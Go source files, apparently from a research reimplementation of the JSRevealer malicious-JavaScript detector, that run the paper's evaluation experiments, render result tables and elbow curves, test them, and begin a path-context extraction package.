func Table1(cfg Config) Table1Result {
	total := cfg.TrainPerClass + cfg.TestPerClass
	samples := corpus.Generate(corpus.Config{Benign: total, Malicious: total, Seed: cfg.Seed})
	counts := corpus.FamilyCounts(samples)
	classOf := make(map[string]bool, len(counts))
	for _, s := range samples {
		classOf[s.Family] = s.Malicious
	}
	families := make([]string, 0, len(counts))
	for f := range counts {
		families = append(families, f)
	}
	sort.Slice(families, func(i, j int) bool {
		if classOf[families[i]] != classOf[families[j]] {
			return classOf[families[i]] // malicious first, as in the paper
		}
		return families[i] < families[j]
	})
	var res Table1Result
	for _, f := range families {
		class := "Benign"
		if classOf[f] {
			class = "Malicious"
		}
		res.Rows = append(res.Rows, Table1Row{Class: class, Source: f, Count: counts[f]})
	}
	return res
}

// Render prints the table.
func (r Table1Result) Render() string {
	rows := make([][]string, len(r.Rows))
	for i, row := range r.Rows {
		rows[i] = []string{row.Class, row.Source, fmt.Sprintf("%d", row.Count)}
	}
	return "Table I: dataset composition (synthetic corpus families)\n" +
		renderGrid([]string{"Class", "Source (generator family)", "#JS"}, rows)
}

// ---------------------------------------------------------------------------
// Table II — classifier comparison on unobfuscated data
// ---------------------------------------------------------------------------

// Table2Result compares the five classifier algorithms on unobfuscated
// data, using the elbow-method K values (7, 4) as the paper does for this
// experiment.
type Table2Result struct {
	Rows map[string]metrics.Report
}

// Table2Classifiers lists the evaluated algorithms in the paper's order.
func Table2Classifiers() []string {
	return []string{"SVM", "LogisticRegression", "DecisionTree", "GaussianNB", "RandomForest"}
}

// Table2 runs the classifier comparison.
func Table2(cfg Config) (Table2Result, error) {
	res := Table2Result{Rows: make(map[string]metrics.Report)}
	acc := make(map[string][]metrics.Report)
	for rep := 0; rep < cfg.Repetitions; rep++ {
		sp := makeSplit(cfg, rep)
		opts := core.DefaultOptions()
		opts.Seed = cfg.Seed + int64(rep)
		opts.Embedding.Seed = opts.Seed
		prep, err := core.Prepare(sp.train, nil, opts)
		if err != nil {
			return res, err
		}
		trainers := map[string]classify.Trainer{
			"SVM":                &classify.LinearSVMTrainer{Seed: opts.Seed},
			"LogisticRegression": &classify.LogisticRegressionTrainer{Seed: opts.Seed},
			"DecisionTree":       &classify.DecisionTreeTrainer{},
			"GaussianNB":         &classify.GaussianNBTrainer{},
			"RandomForest":       &classify.RandomForestTrainer{Seed: opts.Seed},
		}
		for name, tr := range trainers {
			// The paper runs this comparison at the elbow K values (7, 4).
			det, err := prep.Build(7, 4, tr)
			if err != nil {
				return res, err
			}
			acc[name] = append(acc[name], evaluate(det, sp.test, nil))
		}
	}
	for name, reports := range acc {
		res.Rows[name] = metrics.Average(reports)
	}
	return res, nil
}

// Render prints the table.
func (r Table2Result) Render() string {
	header := []string{"Method", "Acc", "P", "R", "F1", "FPR", "FNR"}
	var rows [][]string
	for _, name := range Table2Classifiers() {
		rep, ok := r.Rows[name]
		if !ok {
			continue
		}
		rows = append(rows, []string{
			name, pct(rep.Accuracy), pct(rep.Precision), pct(rep.Recall),
			pct(rep.F1), pct(rep.FPR), pct(rep.FNR),
		})
	}
	return "Table II: classifier comparison on unobfuscated samples (K=7/4, %)\n" +
		renderGrid(header, rows)
}

// ---------------------------------------------------------------------------
// Table III — K-value sweep on obfuscated data
// ---------------------------------------------------------------------------

// Table3Result holds average F1 over the four obfuscators for each
// (K benign, K malicious) pair in the sweep.
type Table3Result struct {
	KBenign    []int
	KMalicious []int
	// F1 is indexed [kBenignIdx][kMaliciousIdx].
	F1 [][]float64
}

// Table3 sweeps clustering K values and reports average F1 on obfuscated
// test data, the paper's Table III grid.
func Table3(cfg Config, kBenign, kMalicious []int) (Table3Result, error) {
	if len(kBenign) == 0 {
		kBenign = []int{7, 9, 11, 13}
	}
	if len(kMalicious) == 0 {
		kMalicious = []int{4, 6, 8, 10}
	}
	res := Table3Result{KBenign: kBenign, KMalicious: kMalicious}
	sums := make([][]float64, len(kBenign))
	for i := range sums {
		sums[i] = make([]float64, len(kMalicious))
	}
	for rep := 0; rep < cfg.Repetitions; rep++ {
		sp := makeSplit(cfg, rep)
		opts := core.DefaultOptions()
		opts.Seed = cfg.Seed + int64(rep)
		opts.Embedding.Seed = opts.Seed
		prep, err := core.Prepare(sp.train, nil, opts)
		if err != nil {
			return res, err
		}
		conditioned := obfuscatedTestSets(sp.test, rep, cfg.Seed)
		for i, kb := range kBenign {
			for j, km := range kMalicious {
				det, err := prep.Build(kb, km, nil)
				if err != nil {
					return res, err
				}
				var f1s []float64
				for _, obName := range Conditions()[1:] {
					report := evaluate(det, conditioned[obName], nil)
					f1s = append(f1s, report.F1)
				}
				mean := 0.0
				for _, v := range f1s {
					mean += v
				}
				sums[i][j] += mean / float64(len(f1s))
			}
		}
	}
	res.F1 = sums
	for i := range res.F1 {
		for j := range res.F1[i] {
			res.F1[i][j] /= float64(cfg.Repetitions)
		}
	}
	return res, nil
}

// Best returns the (K benign, K malicious) pair with the highest average F1.
func (r Table3Result) Best() (kb, km int, f1 float64) {
	for i := range r.F1 {
		for j := range r.F1[i] {
			if r.F1[i][j] > f1 {
				kb, km, f1 = r.KBenign[i], r.KMalicious[j], r.F1[i][j]
			}
		}
	}
	return kb, km, f1
}

// Render prints the grid.
func (r Table3Result) Render() string {
	header := []string{"Kb\\Km"}
	for _, km := range r.KMalicious {
		header = append(header, fmt.Sprintf("%d", km))
	}
	var rows [][]string
	for i, kb := range r.KBenign {
		row := []string{fmt.Sprintf("%d", kb)}
		for j := range r.KMalicious {
			row = append(row, pct(r.F1[i][j]))
		}
		rows = append(rows, row)
	}
	kb, km, f1 := r.Best()
	return "Table III: avg F1 (%) on obfuscated data for clustering K values\n" +
		renderGrid(header, rows) +
		fmt.Sprintf("best: K benign=%d, K malicious=%d (F1=%.1f%%)\n", kb, km, f1)
}

// ---------------------------------------------------------------------------
// Table IV — enhanced vs regular AST per obfuscator
// ---------------------------------------------------------------------------

// Table4Result reports JSRevealer with the enhanced AST versus the regular
// AST across all conditions.
type Table4Result struct {
	// Rows maps "enhanced"/"regular" → condition → report.
	Rows map[string]map[string]metrics.Report
}

// Table4 runs the enhanced-AST ablation.
func Table4(cfg Config) (Table4Result, error) {
	res := Table4Result{Rows: map[string]map[string]metrics.Report{
		"enhanced": {},
		"regular":  {},
	}}
	acc := map[string]map[string][]metrics.Report{
		"enhanced": {},
		"regular":  {},
	}
	for rep := 0; rep < cfg.Repetitions; rep++ {
		sp := makeSplit(cfg, rep)
		conditioned := obfuscatedTestSets(sp.test, rep, cfg.Seed)
		for mode, opts := range map[string]core.Options{
			"enhanced": core.DefaultOptions(),
			"regular":  core.RegularASTOptions(),
		} {
			opts.Seed = cfg.Seed + int64(rep)
			opts.Embedding.Seed = opts.Seed
			det, err := core.Train(sp.train, nil, opts)
			if err != nil {
				return res, err
			}
			for _, cond := range Conditions() {
				report := evaluate(det, conditioned[cond], nil)
				acc[mode][cond] = append(acc[mode][cond], report)
			}
		}
	}
	for mode, conds := range acc {
		for cond, reports := range conds {
			res.Rows[mode][cond] = metrics.Average(reports)
		}
	}
	return res, nil
}

// Render prints the table.
func (r Table4Result) Render() string {
	header := []string{"AST", "Obfuscator", "Acc", "F1", "FPR", "FNR"}
	var rows [][]string
	for _, mode := range []string{"enhanced", "regular"} {
		for _, cond := range Conditions() {
			rep, ok := r.Rows[mode][cond]
			if !ok {
				continue
			}
			rows = append(rows, []string{
				mode, cond, pct(rep.Accuracy), pct(rep.F1), pct(rep.FPR), pct(rep.FNR),
			})
		}
	}
	return "Table IV: JSRevealer with enhanced vs regular AST (%)\n" +
		renderGrid(header, rows)
}

// ---------------------------------------------------------------------------
// Tables V & VI and Figures 6 & 7 — detector comparison
// ---------------------------------------------------------------------------

// ComparisonResult holds the full detector × condition metric grid from
// which Table V (accuracy), Table VI (F1), Figure 6 (FPR/FNR), and Figure 7
// (averages) all derive.
type ComparisonResult struct {
	// Reports maps detector → condition → averaged report.
	Reports map[string]map[string]metrics.Report
}

// Comparison trains all five detectors and evaluates every condition.
func Comparison(cfg Config) (ComparisonResult, error) {
	res := ComparisonResult{Reports: make(map[string]map[string]metrics.Report)}
	acc := make(map[string]map[string][]metrics.Report)
	for rep := 0; rep < cfg.Repetitions; rep++ {
		sp := makeSplit(cfg, rep)
		dets, err := trainAll(sp, cfg.Seed+int64(rep))
		if err != nil {
			return res, err
		}
		conditioned := obfuscatedTestSets(sp.test, rep, cfg.Seed)
		for name, det := range dets {
			if acc[name] == nil {
				acc[name] = make(map[string][]metrics.Report)
			}
			for _, cond := range Conditions() {
				report := evaluate(det, conditioned[cond], nil)
				acc[name][cond] = append(acc[name][cond], report)
			}
		}
	}
	for name, conds := range acc {
		res.Reports[name] = make(map[string]metrics.Report, len(conds))
		for cond, reports := range conds {
			res.Reports[name][cond] = metrics.Average(reports)
		}
	}
	return res, nil
}

// RenderTable5 prints the accuracy grid (Table V).
func (r ComparisonResult) RenderTable5() string {
	return r.renderMetric("Table V: accuracy (%) per detector and obfuscator",
		func(m metrics.Report) float64 { return m.Accuracy })
}

// RenderTable6 prints the F1 grid (Table VI).
func (r ComparisonResult) RenderTable6() string {
	return r.renderMetric("Table VI: F1 (%) per detector and obfuscator",
		func(m metrics.Report) float64 { return m.F1 })
}

func (r ComparisonResult) renderMetric(title string, pick func(metrics.Report) float64) string {
	header := append([]string{"Detector"}, Conditions()...)
	var rows [][]string
	for _, det := range DetectorOrder() {
		conds, ok := r.Reports[det]
		if !ok {
			continue
		}
		row := []string{det}
		for _, cond := range Conditions() {
			row = append(row, pct(pick(conds[cond])))
		}
		rows = append(rows, row)
	}
	return title + "\n" + renderGrid(header, rows)
}

// RenderFigure6 prints the FNR and FPR series per detector and obfuscator
// (the data behind the paper's bar charts).
func (r ComparisonResult) RenderFigure6() string {
	var sb strings.Builder
	sb.WriteString("Figure 6: FNR and FPR (%) per detector and obfuscator\n")
	for _, metric := range []string{"FNR", "FPR"} {
		sb.WriteString(metric + ":\n")
		header := append([]string{"Detector"}, Conditions()...)
		var rows [][]string
		for _, det := range DetectorOrder() {
			conds, ok := r.Reports[det]
			if !ok {
				continue
			}
			row := []string{det}
			for _, cond := range Conditions() {
				v := conds[cond].FNR
				if metric == "FPR" {
					v = conds[cond].FPR
				}
				row = append(row, pct(v))
			}
			rows = append(rows, row)
		}
		sb.WriteString(renderGrid(header, rows))
	}
	return sb.String()
}

// AverageOverObfuscators returns each detector's mean report across the
// four obfuscated conditions — the data behind Figure 7.
func (r ComparisonResult) AverageOverObfuscators() map[string]metrics.Report {
	out := make(map[string]metrics.Report, len(r.Reports))
	for det, conds := range r.Reports {
		var reports []metrics.Report
		for _, cond := range Conditions()[1:] {
			reports = append(reports, conds[cond])
		}
		out[det] = metrics.Average(reports)
	}
	return out
}

// RenderFigure7 prints the averaged comparison (Figure 7).
func (r ComparisonResult) RenderFigure7() string {
	avgs := r.AverageOverObfuscators()
	header := []string{"Detector", "Acc", "F1", "FPR", "FNR"}
	var rows [][]string
	for _, det := range DetectorOrder() {
		a, ok := avgs[det]
		if !ok {
			continue
		}
		rows = append(rows, []string{det, pct(a.Accuracy), pct(a.F1), pct(a.FPR), pct(a.FNR)})
	}
	return "Figure 7: average performance (%) on code obfuscated by the four obfuscators\n" +
		renderGrid(header, rows)
}

// ---------------------------------------------------------------------------
// Table VII — interpretability
// ---------------------------------------------------------------------------

// Table7Result lists the most important features with their central paths.
type Table7Result struct {
	Features []core.ImportantFeature
}

// Table7 trains JSRevealer once and returns the top-5 features.
func Table7(cfg Config) (Table7Result, error) {
	sp := makeSplit(cfg, 0)
	opts := core.DefaultOptions()
	opts.Seed = cfg.Seed
	opts.Embedding.Seed = cfg.Seed
	det, err := core.Train(sp.train, nil, opts)
	if err != nil {
		return Table7Result{}, err
	}
	feats, err := det.Explain(5)
	if err != nil {
		return Table7Result{}, err
	}
	return Table7Result{Features: feats}, nil
}

// Render prints the table.
func (r Table7Result) Render() string {
	header := []string{"Importance", "Origin", "Central path"}
	var rows [][]string
	for _, f := range r.Features {
		origin := "benign"
		if f.FromMalicious {
			origin = "malicious"
		}
		path := f.CentralPath
		if len(path) > 100 {
			path = path[:100] + "..."
		}
		rows = append(rows, []string{fmt.Sprintf("%.3f", f.Importance), origin, path})
	}
	return "Table VII: five most important features (random-forest importance)\n" +
		renderGrid(header, rows)
}

// ---------------------------------------------------------------------------
// Table VIII — runtime overhead
// ---------------------------------------------------------------------------

// Table8Result reports per-module time per file.
type Table8Result struct {
	Rows []Table8Row
	// PerFileDetect is the end-to-end average detection time per file.
	PerFileDetect time.Duration
}

// Table8Row is one module/period timing.
type Table8Row struct {
	Module  string
	Period  string
	PerFile time.Duration
}

// Table8 trains JSRevealer, detects the test set, and averages the stage
// timings per file.
func Table8(cfg Config) (Table8Result, error) {
	sp := makeSplit(cfg, 0)
	opts := core.DefaultOptions()
	opts.Seed = cfg.Seed
	opts.Embedding.Seed = cfg.Seed
	det, err := core.Train(sp.train, nil, opts)
	if err != nil {
		return Table8Result{}, err
	}
	trainTimings := det.Timings()
	trainFiles := trainTimings.FilesProcessed

	detectStart := time.Now()
	for _, s := range sp.test {
		if _, err := det.Detect(s.Source); err != nil {
			continue
		}
	}
	detectWall := time.Since(detectStart)
	total := det.Timings()
	nTest := len(sp.test)
	if nTest == 0 {
		nTest = 1
	}

	per := func(d time.Duration, n int) time.Duration {
		if n == 0 {
			return 0
		}
		return d / time.Duration(n)
	}
	allFiles := total.FilesProcessed
	res := Table8Result{
		Rows: []Table8Row{
			{"Path extraction", "Enhanced AST", per(total.EnhancedAST, allFiles)},
			{"Path extraction", "Path traversal", per(total.PathTraversal, allFiles)},
			{"Path embedding", "Pre-training", per(trainTimings.PreTraining, trainFiles)},
			{"Path embedding", "Embedding", per(total.Embedding, allFiles)},
			{"Feature generation", "Outlier detection", per(trainTimings.OutlierDet, trainFiles)},
			{"Feature generation", "Clustering", per(trainTimings.Clustering, trainFiles)},
			{"Classification", "Training", per(trainTimings.Training, trainFiles)},
			{"Classification", "Classifying", per(total.Classifying, nTest)},
		},
		PerFileDetect: detectWall / time.Duration(nTest),
	}
	return res, nil
}

// Render prints the table.
func (r Table8Result) Render() string {
	header := []string{"Module", "Period", "Avg time per file (ms)"}
	var rows [][]string
	for _, row := range r.Rows {
		rows = append(rows, []string{
			row.Module, row.Period,
			fmt.Sprintf("%.3f", float64(row.PerFile.Microseconds())/1000),
		})
	}
	return "Table VIII: runtime overhead per module\n" +
		renderGrid(header, rows) +
		fmt.Sprintf("average end-to-end detection time per file: %.1f ms\n",
			float64(r.PerFileDetect.Microseconds())/1000)
}
