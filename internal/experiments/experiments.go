// Package experiments regenerates every table and figure of the paper's
// evaluation section on the synthetic corpus: Tables I-VIII and Figures
// 5-7. Each experiment returns a structured result with a Render method
// that prints the same rows/series the paper reports.
package experiments

import (
	"fmt"
	"math/rand"
	"strings"

	"jsrevealer/internal/baselines"
	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/ml/classify"
	"jsrevealer/internal/ml/metrics"
	"jsrevealer/internal/obfuscate"
)

// Config sizes the experiments. The defaults trade a few minutes of CPU for
// stable numbers; the benchmarks shrink them further.
type Config struct {
	// TrainPerClass is the number of training samples per class (the paper
	// uses 15,000 after its 75/25 split of 20,000).
	TrainPerClass int
	// TestPerClass is the number of held-out test samples per class.
	TestPerClass int
	// Repetitions averages results over independent corpus splits (the
	// paper repeats five times).
	Repetitions int
	// Seed drives corpus generation and model seeds.
	Seed int64
}

// DefaultConfig returns the standard experiment size.
func DefaultConfig() Config {
	return Config{TrainPerClass: 450, TestPerClass: 150, Repetitions: 3, Seed: 42}
}

// QuickConfig returns a small configuration for smoke tests and benchmarks.
func QuickConfig() Config {
	return Config{TrainPerClass: 120, TestPerClass: 40, Repetitions: 1, Seed: 42}
}

// split is one train/test partition of a generated corpus.
type split struct {
	train []core.Sample
	test  []corpus.Sample
}

// makeSplit generates a fresh corpus for repetition rep and partitions it.
func makeSplit(cfg Config, rep int) split {
	total := cfg.TrainPerClass + cfg.TestPerClass
	samples := corpus.Generate(corpus.Config{
		Benign:    total,
		Malicious: total,
		Seed:      cfg.Seed + int64(rep)*7919,
	})
	// Shuffle deterministically, then split per class to keep both sides
	// balanced, as the paper's protocol prescribes.
	rng := rand.New(rand.NewSource(cfg.Seed + int64(rep)*104729 + 1))
	rng.Shuffle(len(samples), func(i, j int) { samples[i], samples[j] = samples[j], samples[i] })
	var sp split
	trainCount := map[bool]int{}
	for _, s := range samples {
		if trainCount[s.Malicious] < cfg.TrainPerClass {
			sp.train = append(sp.train, core.Sample{Source: s.Source, Malicious: s.Malicious})
			trainCount[s.Malicious]++
		} else {
			sp.test = append(sp.test, s)
		}
	}
	return sp
}

// NamedDetector is the common surface of JSRevealer and the baselines.
type NamedDetector interface {
	Name() string
	Detect(src string) (bool, error)
}

// DetectorOrder lists the five detectors in the paper's table order.
func DetectorOrder() []string {
	return []string{"CUJO", "ZOZZLE", "JAST", "JSTAP", "JSRevealer"}
}

// trainAll trains JSRevealer plus the four baselines on one split.
func trainAll(sp split, seed int64) (map[string]NamedDetector, error) {
	out := make(map[string]NamedDetector, 5)

	opts := core.DefaultOptions()
	opts.Seed = seed
	opts.Embedding.Seed = seed
	js, err := core.Train(sp.train, nil, opts)
	if err != nil {
		return nil, fmt.Errorf("train JSRevealer: %w", err)
	}
	out["JSRevealer"] = js

	for _, mk := range []func(int64) (baselines.Extractor, classify.Trainer){
		baselines.NewCUJO,
		baselines.NewZOZZLE,
		baselines.NewJAST,
		baselines.NewJSTAP,
	} {
		ex, tr := mk(seed)
		det, err := baselines.Train(ex, tr, sp.train)
		if err != nil {
			return nil, fmt.Errorf("train %s: %w", ex.Name(), err)
		}
		out[det.Name()] = det
	}
	return out, nil
}

// evaluate runs a detector over a test set, optionally transformed by an
// obfuscator, and returns the metric report. Detection errors (unparseable
// transforms) count as benign predictions — a detector that cannot analyze
// a file cannot flag it.
func evaluate(det NamedDetector, test []corpus.Sample, ob obfuscate.Obfuscator) metrics.Report {
	var c metrics.Confusion
	for _, s := range test {
		src := s.Source
		if ob != nil {
			if out, err := ob.Obfuscate(src); err == nil {
				src = out
			}
		}
		pred, err := det.Detect(src)
		if err != nil {
			pred = false
		}
		c.Add(s.Malicious, pred)
	}
	return metrics.ReportOf(c)
}

// obfuscatedTestSets pre-computes the test set under every condition so
// repeated evaluations (K sweeps, multiple detectors) do not re-obfuscate.
func obfuscatedTestSets(test []corpus.Sample, rep int, seed int64) map[string][]corpus.Sample {
	out := make(map[string][]corpus.Sample, len(Conditions()))
	for _, cond := range Conditions() {
		ob := obfuscatorFor(cond, rep, seed)
		if ob == nil {
			out[cond] = test
			continue
		}
		transformed := make([]corpus.Sample, len(test))
		for i, s := range test {
			transformed[i] = s
			if src, err := ob.Obfuscate(s.Source); err == nil {
				transformed[i].Source = src
			}
		}
		out[cond] = transformed
	}
	return out
}

// obfuscatorFor returns the named obfuscator seeded for a repetition, or
// nil for the unobfuscated baseline condition.
func obfuscatorFor(name string, rep int, seed int64) obfuscate.Obfuscator {
	if name == "" || name == "Baseline" {
		return nil
	}
	return obfuscate.Registry(seed + int64(rep)*31)[name]
}

// Conditions lists the evaluation conditions in table order: the
// unobfuscated baseline plus the four obfuscators.
func Conditions() []string {
	return append([]string{"Baseline"}, obfuscate.PaperOrder()...)
}

// ---------------------------------------------------------------------------
// small rendering helpers shared by the table types
// ---------------------------------------------------------------------------

// renderGrid prints a header row and aligned data rows.
func renderGrid(header []string, rows [][]string) string {
	widths := make([]int, len(header))
	for i, h := range header {
		widths[i] = len(h)
	}
	for _, r := range rows {
		for i, cell := range r {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	var sb strings.Builder
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			sb.WriteString(pad(cell, widths[i]))
		}
		sb.WriteString("\n")
	}
	writeRow(header)
	for i, w := range widths {
		if i > 0 {
			sb.WriteString("  ")
		}
		sb.WriteString(strings.Repeat("-", w))
	}
	sb.WriteString("\n")
	for _, r := range rows {
		writeRow(r)
	}
	return sb.String()
}

func pad(s string, w int) string {
	if len(s) >= w {
		return s
	}
	return s + strings.Repeat(" ", w-len(s))
}

func pct(v float64) string { return fmt.Sprintf("%.1f", v) }
