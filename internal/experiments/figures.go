package experiments

import (
	"fmt"
	"strings"

	"jsrevealer/internal/core"
	"jsrevealer/internal/ml/cluster"
)

// Figure5Result holds the SSE-vs-K elbow curves for benign and malicious
// path-vector pools.
type Figure5Result struct {
	KMin, KMax     int
	BenignSSE      []float64
	MaliciousSSE   []float64
	BenignElbow    int
	MaliciousElbow int
}

// Figure5 computes the elbow curves over the outlier-filtered pools of a
// prepared training pass.
func Figure5(cfg Config, kMin, kMax int) (Figure5Result, error) {
	if kMin <= 0 {
		kMin = 2
	}
	if kMax <= 0 {
		kMax = 15
	}
	res := Figure5Result{KMin: kMin, KMax: kMax}
	sp := makeSplit(cfg, 0)
	opts := core.DefaultOptions()
	opts.Seed = cfg.Seed
	opts.Embedding.Seed = cfg.Seed
	prep, err := core.Prepare(sp.train, nil, opts)
	if err != nil {
		return res, err
	}
	res.BenignSSE, err = cluster.ElbowCurve(prep.PoolVectors(false), kMin, kMax, cfg.Seed)
	if err != nil {
		return res, err
	}
	res.MaliciousSSE, err = cluster.ElbowCurve(prep.PoolVectors(true), kMin, kMax, cfg.Seed)
	if err != nil {
		return res, err
	}
	res.BenignElbow = elbowOf(res.BenignSSE, kMin)
	res.MaliciousElbow = elbowOf(res.MaliciousSSE, kMin)
	return res, nil
}

// elbowOf picks the K whose point is farthest from the line between the
// first and last points of the SSE curve (the standard knee heuristic).
func elbowOf(sse []float64, kMin int) int {
	n := len(sse)
	if n < 3 {
		return kMin
	}
	x1, y1 := 0.0, sse[0]
	x2, y2 := float64(n-1), sse[n-1]
	best, bestD := 0, -1.0
	for i := 0; i < n; i++ {
		// Distance of (i, sse[i]) from the line (x1,y1)-(x2,y2).
		num := (y2-y1)*float64(i) - (x2-x1)*sse[i] + x2*y1 - y2*x1
		if num < 0 {
			num = -num
		}
		den := (y2-y1)*(y2-y1) + (x2-x1)*(x2-x1)
		d := num * num / den
		if d > bestD {
			best, bestD = i, d
		}
	}
	return kMin + best
}

// Render prints the two curves with ASCII sparkbars plus the detected
// elbows.
func (r Figure5Result) Render() string {
	var sb strings.Builder
	sb.WriteString("Figure 5: SSE for different K values (elbow method)\n")
	writeCurve := func(name string, sse []float64, elbow int) {
		sb.WriteString(name + ":\n")
		maxV := 0.0
		for _, v := range sse {
			if v > maxV {
				maxV = v
			}
		}
		for i, v := range sse {
			k := r.KMin + i
			bar := 0
			if maxV > 0 {
				bar = int(v / maxV * 40)
			}
			marker := ""
			if k == elbow {
				marker = "  <- elbow"
			}
			sb.WriteString(fmt.Sprintf("  K=%-3d %-40s %10.2f%s\n", k,
				strings.Repeat("#", bar), v, marker))
		}
	}
	writeCurve("benign", r.BenignSSE, r.BenignElbow)
	writeCurve("malicious", r.MaliciousSSE, r.MaliciousElbow)
	return sb.String()
}
