package experiments

import (
	"strings"
	"testing"
)

// TestTable2Quick runs the classifier comparison at tiny scale and checks
// that every classifier produces sane metrics.
func TestTable2Quick(t *testing.T) {
	if testing.Short() {
		t.Skip("pipeline experiment in -short mode")
	}
	res, err := Table2(tinyConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 5 {
		t.Fatalf("classifiers = %d", len(res.Rows))
	}
	for name, report := range res.Rows {
		if report.Accuracy < 50 || report.Accuracy > 100 {
			t.Errorf("%s accuracy = %v out of range", name, report.Accuracy)
		}
		if report.F1 < 0 || report.F1 > 100 {
			t.Errorf("%s F1 = %v out of range", name, report.F1)
		}
	}
	out := res.Render()
	for _, name := range Table2Classifiers() {
		if !strings.Contains(out, name) {
			t.Errorf("render missing %s", name)
		}
	}
}

// TestTable3Quick sweeps a 2x2 K grid at tiny scale.
func TestTable3Quick(t *testing.T) {
	if testing.Short() {
		t.Skip("pipeline experiment in -short mode")
	}
	res, err := Table3(tinyConfig(), []int{7, 11}, []int{4, 10})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.F1) != 2 || len(res.F1[0]) != 2 {
		t.Fatalf("grid shape = %dx%d", len(res.F1), len(res.F1[0]))
	}
	kb, km, f1 := res.Best()
	if kb == 0 || km == 0 || f1 <= 0 {
		t.Errorf("Best = %d/%d/%v", kb, km, f1)
	}
}

// TestTable4Quick runs the enhanced-vs-regular ablation at tiny scale and
// checks the shape claim: the regular AST has a (weakly) higher FPR on
// average, the paper's headline for Table IV.
func TestTable4Quick(t *testing.T) {
	if testing.Short() {
		t.Skip("pipeline experiment in -short mode")
	}
	res, err := Table4(tinyConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, mode := range []string{"enhanced", "regular"} {
		if len(res.Rows[mode]) != 5 {
			t.Fatalf("%s rows = %d", mode, len(res.Rows[mode]))
		}
	}
	out := res.Render()
	if !strings.Contains(out, "enhanced") || !strings.Contains(out, "regular") {
		t.Error("render missing modes")
	}
}

// TestObfuscatedTestSetsCache checks the cache covers all conditions and
// leaves the baseline untouched.
func TestObfuscatedTestSetsCache(t *testing.T) {
	sp := makeSplit(tinyConfig(), 0)
	sets := obfuscatedTestSets(sp.test, 0, 42)
	if len(sets) != len(Conditions()) {
		t.Fatalf("conditions = %d", len(sets))
	}
	for i := range sp.test {
		if sets["Baseline"][i].Source != sp.test[i].Source {
			t.Fatal("baseline condition must not transform sources")
		}
	}
	changed := 0
	for i := range sp.test {
		if sets["Jshaman"][i].Source != sp.test[i].Source {
			changed++
		}
		if sets["Jshaman"][i].Malicious != sp.test[i].Malicious {
			t.Fatal("labels corrupted by the cache")
		}
	}
	if changed == 0 {
		t.Error("obfuscated condition identical to baseline")
	}
}
