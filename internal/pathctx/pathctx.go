// Package pathctx extracts path contexts from enhanced ASTs.
//
// A path context is the triple <x_s, n1..nk, x_t> of the JSRevealer paper
// (after Alon et al.'s code2vec): x_s and x_t are the values associated with
// two leaves of the AST and n1..nk is the sequence of node types on the
// tree path between them. Paths are bounded by a maximum length (k) and a
// maximum width (the child-index distance at the path's topmost node).
//
// Leaves whose identifier participates in a data dependency keep their
// concrete value; all other leaves are abstracted to a type indicator such
// as "@var_str" or "@var_int", which is what makes the representation
// robust to renaming-style obfuscation.
package pathctx

import (
	"strings"
	"time"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/dataflow"
)

// Default extraction bounds from the paper (Section III-B).
const (
	DefaultMaxLength = 12
	DefaultMaxWidth  = 4
	// DefaultMaxPaths caps the number of contexts per script so extraction
	// stays tractable on large files; sampling is deterministic.
	DefaultMaxPaths = 1200
)

// Options configures extraction.
type Options struct {
	MaxLength int
	MaxWidth  int
	MaxPaths  int
	// UseDataFlow selects the enhanced AST (true, the paper's default) or
	// the regular AST ablation of Table IV (false): with it disabled every
	// leaf is abstracted and no concrete values survive.
	UseDataFlow bool
}

// DefaultOptions returns the paper's configuration.
func DefaultOptions() Options {
	return Options{
		MaxLength:   DefaultMaxLength,
		MaxWidth:    DefaultMaxWidth,
		MaxPaths:    DefaultMaxPaths,
		UseDataFlow: true,
	}
}

// Path is one extracted path context.
type Path struct {
	// Source and Target are the (possibly abstracted) leaf values.
	Source, Target string
	// Nodes is the sequence of AST node-type names along the path,
	// including both leaf node types.
	Nodes []string
}

// String renders the context in the paper's "<xs, n1...nk, xt>" spirit,
// with components joined by commas and node types by spaces.
func (p Path) String() string {
	return p.Source + "," + strings.Join(p.Nodes, " ") + "," + p.Target
}

// FNV-1a parameters (FNV-0 offset basis and 64-bit prime). The hashes are
// computed inline over string bytes rather than through hash/fnv: the
// stdlib constructor heap-allocates a hasher per call and the Write
// interface forces a []byte conversion per component, which dominated the
// allocation profile of the detect hot path. The byte sequences fed in are
// identical to the previous hash/fnv implementation, so every hash value —
// and therefore every vocabulary bucket — is unchanged.
const (
	fnvOffset64 = 14695981039346656037
	fnvPrime64  = 1099511628211
)

// fnvString folds the bytes of s into h.
func fnvString(h uint64, s string) uint64 {
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= fnvPrime64
	}
	return h
}

// fnvByte folds one separator byte into h.
func fnvByte(h uint64, b byte) uint64 {
	h ^= uint64(b)
	h *= fnvPrime64
	return h
}

// Hash returns a stable 64-bit hash of the full context, used by the
// embedding model's hashed vocabulary.
func (p Path) Hash() uint64 {
	h := fnvString(fnvOffset64, p.Source)
	h = fnvByte(h, 0)
	for _, n := range p.Nodes {
		h = fnvString(h, n)
		h = fnvByte(h, 1)
	}
	return fnvString(h, p.Target)
}

// ComponentHashes returns stable hashes of the context's three components:
// source value, node-type sequence, and target value. The embedding model
// sums the component embeddings, which realises the paper's requirement
// that "two paths with data dependency will have the same value in their
// triplets, and the vectors obtained in the embedding process will be
// closer": shared values or shared structure directly translate into vector
// proximity.
func (p Path) ComponentHashes() (source, structure, target uint64) {
	source = fnvString(fnvString(fnvOffset64, "src:"), p.Source)
	structure = fnvString(fnvOffset64, "nodes:")
	for _, n := range p.Nodes {
		structure = fnvByte(fnvString(structure, n), 1)
	}
	target = fnvString(fnvString(fnvOffset64, "tgt:"), p.Target)
	return source, structure, target
}

// Extract parses nothing: it takes an already-parsed program, runs the
// data-flow analysis when enabled, and returns the path contexts.
func Extract(prog *ast.Program, opts Options) []Path {
	paths, _ := ExtractTimed(prog, opts)
	return paths
}

// Timing breaks one extraction into its two phases so the observability
// layer can attribute data-flow analysis separately from path traversal —
// the paper's Table VIII distinguishes exactly these costs.
type Timing struct {
	// DataFlow is the enhanced-AST data-dependency analysis time (zero
	// when UseDataFlow is disabled).
